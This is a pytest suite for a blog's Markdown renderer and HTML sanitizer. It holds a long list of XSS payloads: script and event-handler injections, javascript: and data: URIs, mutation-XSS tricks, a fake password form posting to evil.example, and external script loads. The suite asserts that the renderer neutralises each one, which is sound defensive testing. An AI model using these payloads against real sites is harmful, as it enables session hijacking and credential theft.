"""Markdown: what writers can do, and what nobody can."""

import html
import re
import time
from html.parser import HTMLParser

import pytest

from blog.models import Post
from blog.publishing.markdown import count_words, reading_minutes, render
from blog.search import TITLE, weigh

OWN = ("https://blog.example", "https://img.example")

# Each is to come out as text or as nothing: no script, no foreign frame, no address that runs or tells.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x\tonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="https://x/y.png" onload=alert(1) style="x:expression(alert(1))">',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=http://plain.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='javascript:alert(1) 2x' src=/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "<a href='java&#1;script:alert(1)'>x</a>",
    "<a href='java\x7fscript:alert(1)'>x</a>",
    "<a href='java\ufdd0script:alert(1)'>x</a>",
    "<a href='java\ufffescript:alert(1)'>x</a>",
    "<img src='/\x7f/evil.example/pixel.gif'>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=https://x target=_blank onclick=alert(1) ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://x "\\" onmouseover=alert(1) ")',
    "[x](https://x'onclick='alert(1))",
    '![x](https://x/"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://x/y.png)',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```x"><script>alert(1)</script>\ny\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '# x" onmouseover="alert(1)',
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<a name=location id=location href=/x>clobber</a>",
    "<h2 id=cookie>clobber</h2>",
    "<div class='modal fixed top'>dressed up</div>",
    "<span class='btn btn-primary'>dressed up</span>",
    "\u202e<script>alert(1)</script>",
    "<p\u0130 onclick=alert(1)>",
]

TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl", "dt", "em",
    "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "ins", "kbd", "li", "mark",
    "ol", "p",
    "pre", "q", "s", "samp", "section", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "tfoot", "th", "thead", "tr", "ul", "var",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "id", "class", "src", "alt", "width", "height", "loading", "start", "align"}
ATTRIBUTES |= {"colspan", "rowspan", "scope", "type", "checked", "disabled", "aria-label"}
# RFC 3986: what a scheme is made of; "java%0Ascript" is none.
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Inspector(HTMLParser):
    """Reads HTML as leniently as a browser and remembers what may not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look_at(name, value or "")

    def _look_at(self, name: str, value: str) -> None:
        # A page leaves out what HTML may not hold.
        plain = re.sub("[\x00-\x20\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]", "", html.unescape(value))
        if name not in ATTRIBUTES:
            self.found.append(name)
        scheme = SCHEME.match(plain)
        if name == "href" and scheme and scheme[1].lower() not in {"http", "https", "mailto", "tel"}:
            self.found.append(value)
        if name == "src" and not (plain.startswith("https://") or re.match(r"/[^/\\]", plain)):
            self.found.append(value)
        if name == "id" and not re.fullmatch(r"\w+(-\w+)+|fn(ref)?\d.*", value):
            self.found.append(value)
        if name == "type" and value != "checkbox":
            self.found.append(value)
        if name == "class" and re.search(r"modal|fixed|btn", value):
            self.found.append(value)

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


def dangers(text: str) -> list[str]:
    """What in this HTML may not be there."""
    inspector = Inspector()
    inspector.feed(text)
    inspector.close()
    return inspector.found


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "text {} text", "> {}", "* {}", "**{}**", "<div>{}</div>", "<table>{}</table>"]
)
def test_nothing_gets_through(payload: str, around: str) -> None:
    assert dangers(render(around.format(payload), OWN).html) == []


def test_the_inspector_sees_what_it_is_for() -> None:
    for bad in (
        "<script>",
        "<p onclick=x>",
        '<a href="java\tscript:x">',
        '<img src="http://x">',
        '<h1 id="x">',
        "<!-- -->",
    ):
        assert dangers(bad), bad


def test_what_passed_once_passes_unchanged() -> None:
    """No text that is safe becomes dangerous when a browser writes it out again and it is read anew."""
    for payload in PAYLOADS:
        once = render(payload, OWN).html
        assert dangers(render(f"<div>\n{once}\n</div>", OWN).html) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>"),
        ("# Été, 2 & 3", '<h1 id="été-2-3">Été, 2 &amp; 3</h1>'),
        ("a<br>b <kbd>Ctrl</kbd>", "<p>a<br>b <kbd>Ctrl</kbd></p>"),
        ("3. x", '<ol start="3">\n<li>x</li>\n</ol>'),
        ("[x](https://blog.example/a/)", '<p><a href="https://blog.example/a/">x</a></p>'),
        ("[x](/a/)", '<p><a href="/a/">x</a></p>'),
        ("[x](#h-a)", '<p><a href="#h-a">x</a></p>'),
        ("[x](../a/)", '<p><a href="../a/">x</a></p>'),
        ("[x](a?b=c:d)", '<p><a href="a?b=c:d">x</a></p>'),
        ("[x](tel:+4930123)", '<p><a href="tel:+4930123" rel="nofollow noopener">x</a></p>'),
        ("[x](https://other.example/)", '<p><a href="https://other.example/" rel="nofollow noopener">x</a></p>'),
        ("[x](//other.example/)", '<p><a href="//other.example/" rel="nofollow noopener">x</a></p>'),
        ("[x](mailto:a@example.com)", '<p><a href="mailto:a@example.com" rel="nofollow noopener">x</a></p>'),
        (
            "<https://other.example>",
            '<p><a href="https://other.example" rel="nofollow noopener">https://other.example</a></p>',
        ),
        ("![p](https://x/y.png)", '<p><img src="https://x/y.png" alt="p" loading="lazy"></p>'),
        ('![p](/y.png "12x34")', '<p><img src="/y.png" alt="p" width="12" height="34" loading="lazy"></p>'),
        (
            '![p][y.png]\n\n[y.png]: /y.png "12x34"',
            '<p><img src="/y.png" alt="p" width="12" height="34" loading="lazy"></p>',
        ),
        ('![p](/y.png "12x34 cm")', '<p><img src="/y.png" alt="p" title="12x34 cm" loading="lazy"></p>'),
        ("![p](/y.png)", '<p><img src="/y.png" alt="p" loading="lazy"></p>'),
    ],
)
def test_writers_can(text: str, expected: str) -> None:
    assert render(text, OWN).html == expected + "\n"


def test_an_own_site_without_https_may_show_pictures() -> None:
    assert 'src="http://127.0.0.1:1/x.png"' in render("![p](http://127.0.0.1:1/x.png)", ("http://127.0.0.1:1",)).html


def test_code_is_coloured() -> None:
    made = render("```python\ndef f(): return '<b>'\n```").html
    assert made.startswith('<pre><code class="language-python"><span class="k">def</span>')
    assert "&lt;b&gt;" in made
    assert render("```nonsense\nx < y\n```").html == '<pre><code class="language-nonsense">x &lt; y\n</code></pre>\n'


def test_tables_keep_their_alignment() -> None:
    made = render("| a | b |\n|:-:|--:|\n| 1 | 2 |").html
    assert '<th align="center">a</th>' in made
    assert '<td align="right">2</td>' in made


def test_footnotes_lead_there_and_back() -> None:
    made = render("a[^x]\n\n[^x]: b").html
    assert 'href="#fn1" id="fnref1"' in made
    assert '<li id="fn1"' in made
    assert '<a href="#fnref1" aria-label="Back to the text"' in made
    assert "aria-label" not in render('<a href="/" aria-label="Sign in">x</a>').html


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", 0),
        ("one two", 2),
        ("it's a well-known 3 % thing", 5),
        ("*one* `two`", 2),
        ("日本語です", 2),
        ("a <b>b</b> c", 3),
        ("'tis rock-'n'-roll -- 'a'-b- '", 3),
        ("AT&T, a < b, `<p>`", 5),
        ("हिन्दी भाषा", 2),
        ("nai\u0308ve", 1),
        ("ฉันรักแมวมาก", 2),
    ],
)
def test_it_counts_words(text: str, words: int) -> None:
    assert render(text).words == words
    assert count_words("") == 0


def test_reading_takes_whole_minutes() -> None:
    assert [reading_minutes(words) for words in (0, 1, 220, 221, 2200)] == [1, 1, 1, 2, 10]


@pytest.mark.parametrize(
    "text",
    [
        ("> " * 19 + "a\n") * 5_000,
        "*a " * 33_000,
        "# a\n" * 30_000,
        "`" * 5_000 + "a" * 5_000,
        "|a" * 30_000,
        "<" * 100_000,
        "'" * 200_000,
        "```\n" + "-" * 200_000,
        " http://a.b" * 18_000,
        "http://a.b" + ")" * 190_000,
        ":" * 200_000,
        "a.a@" * 50_000,
        "<a b=" * 40_000,
    ],
    ids=[
        "quotes",
        "stars",
        "headings",
        "ticks",
        "cells",
        "less-thans",
        "apostrophes",
        "rules",
        "urls",
        "parentheses",
        "colons",
        "mail",
        "attributes",
    ],
)
def test_no_text_takes_long(text: str) -> None:
    began = time.process_time()
    assert dangers(render(text).html[:10_000]) == []
    assert weigh(Post("long", title="Long", body=text))["long"] == TITLE
    assert time.process_time() - began < 10


def test_tasks_have_boxes() -> None:
    made = render("- [x] a\n- [ ] b\n").html
    assert re.findall("<input[^>]*>", made) == [
        '<input aria-label="Done" disabled="" checked="" type="checkbox">',
        '<input aria-label="Done" disabled="" type="checkbox">',
    ]
    assert 'type="checkbox"' in render("<input type=text name=q>").html


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("![a map](map.png)", "a map"),
        ("![a map](http://plain.example/map.png)", "a map"),
        ("[x](ftp://a.example/)", "ftp://a.example/"),
        ("<iframe src=/x></iframe>", "<iframe>"),
        ("<p onclick=x>", "onclick"),
        ("<p style='color: red'>", "style"),
    ],
)
def test_writers_are_told_what_is_left_out(text: str, word: str) -> None:
    (warning,) = render(text, OWN).warnings
    assert word in warning


def test_there_is_nothing_to_tell_of_what_stays() -> None:
    text = "# A\n![p](https://x/y.png) [x](tel:1) <b>b</b> `<script>` www.a.example\n\n- [x] a\n\n"
    text += "|a|\n|-|\n|b|\n\na[^1]\n\n[^1]: b"
    assert render(text, OWN).warnings == ()
    assert len(render("".join(f"![{number}](x)" for number in range(500)), OWN).warnings) == 20
